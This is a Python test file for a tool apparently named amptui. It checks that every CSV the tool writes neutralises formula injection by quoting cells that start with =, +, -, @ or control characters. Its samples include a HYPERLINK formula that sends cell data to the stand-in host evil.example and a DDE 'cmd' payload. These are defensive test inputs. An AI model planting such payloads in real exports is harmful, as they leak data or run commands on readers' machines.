"""CSV injection: no text from a runs folder reaches a spreadsheet as a formula. Every CSV amptui
writes (`amptui export`, `compare`/`ab --format csv`, the compare screen's export) goes through
core/stream/csvsafe.py, which prefixes a single quote to a cell that starts with =, +, -, @, a tab or a
carriage return (OWASP's rule); numbers stay numbers. A crafted run's preset name and layer name
and an epoch metric's key are "=HYPERLINK(...)"."""

from __future__ import annotations

import ast
import csv
import io
import json

from support.crafted import write_crafted_run
from support.dashboard import QUICK
from support.paths import PACKAGE, modules, parsed

from amptui.core.stream.csvsafe import FORMULA_START, cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_cell_is_never_a_formula_and_numbers_stay_numbers():
    for text in (FORMULA, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "  =1"):
        assert cell(text).startswith("'"), text
    assert [cell(v) for v in (-1.5, 0, 3, None, "quickstart", "a=b")] == [-1.5, 0, 3, "", "quickstart", "a=b"]


def crafted_formula_run(root):
    run_dir = write_crafted_run(root, run_id="20261121-231609-formula-b640", hostile=FORMULA)
    lines = (run_dir / "events.jsonl").read_text().splitlines()
    step = [json.loads(line) for line in lines if json.loads(line)["kind"] == "step"][-1]
    epoch = {"v": 1, "kind": "epoch", "t": step["t"] + 0.001, "rank": 0, "epoch": step["epoch"],
             "train_loss": 1.0, FORMULA: 1.0}  # a metric named by the file
    (run_dir / "events.jsonl").write_text("\n".join([*lines[:-1], json.dumps(epoch), lines[-1]]) + "\n")
    return run_dir


def formula_cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row if value.startswith(FORMULA_START)]


def test_compare_and_export_csv_of_a_crafted_run_hold_no_formula(cli, root):
    run_dir = crafted_formula_run(root)
    table = cli("compare", QUICK, run_dir.name, "--format", "csv", "--runs-dir", str(root), check=True).stdout
    rows = list(csv.DictReader(io.StringIO(table)))
    assert [r["preset"] for r in rows] == ["quickstart", "'" + FORMULA]  # still the text, read as text
    assert formula_cells(table) == []
    assert float(rows[0]["final_loss"]) > 0  # numbers are numbers
    series = cli("export", run_dir.name, "--runs-dir", str(root), check=True).stdout
    assert FORMULA.split("(")[0][1:] in series and formula_cells(series) == []


def test_every_csv_writer_goes_through_csvsafe():
    users = [str(path.relative_to(PACKAGE)) for path in modules()
             if any(isinstance(node, (ast.Import, ast.ImportFrom)) and "csv" in
                    ([a.name for a in node.names] if isinstance(node, ast.Import) else [node.module])
                    for node in ast.walk(parsed(path)))]
    assert users == ["core/stream/csvsafe.py"], users
